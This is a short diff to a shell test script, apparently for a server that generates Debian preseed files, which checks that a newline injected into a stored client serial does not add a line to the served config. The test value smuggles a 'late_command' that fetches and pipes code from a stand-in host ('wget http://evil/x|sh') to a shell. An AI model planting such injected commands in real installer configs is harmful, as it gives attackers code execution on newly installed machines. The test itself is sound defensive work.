@@ -83,8 +83,8 @@ grep -q '^d-i preseed/late_command string wget' "$T/b" && fail "planted line in 
 # template engine keeps it on its line by itself. (After the batched
 # write of the last /boot, which would overwrite it.)
 sleep 0.5
-db_sql "UPDATE clients SET inventory = json_object('serial', 'x' || char(10) ||
-    'd-i preseed/late_command string wget http://evil/x|sh') WHERE mac = '$V'"
+db_sql "UPDATE clients SET inventory = json_object('serial', 'x
+d-i preseed/late_command string wget http://evil/x|sh') WHERE mac = '$V'"
 [ "$(serial | wc -l)" = 2 ] || fail "the stored serial has no newline: $(serial)"
 get 200 "$TV/preseed.cfg"
 [ "$(wc -l <"$T/b")" = 4 ] || fail "preseed has $(wc -l <"$T/b") lines: $(cat "$T/b")"
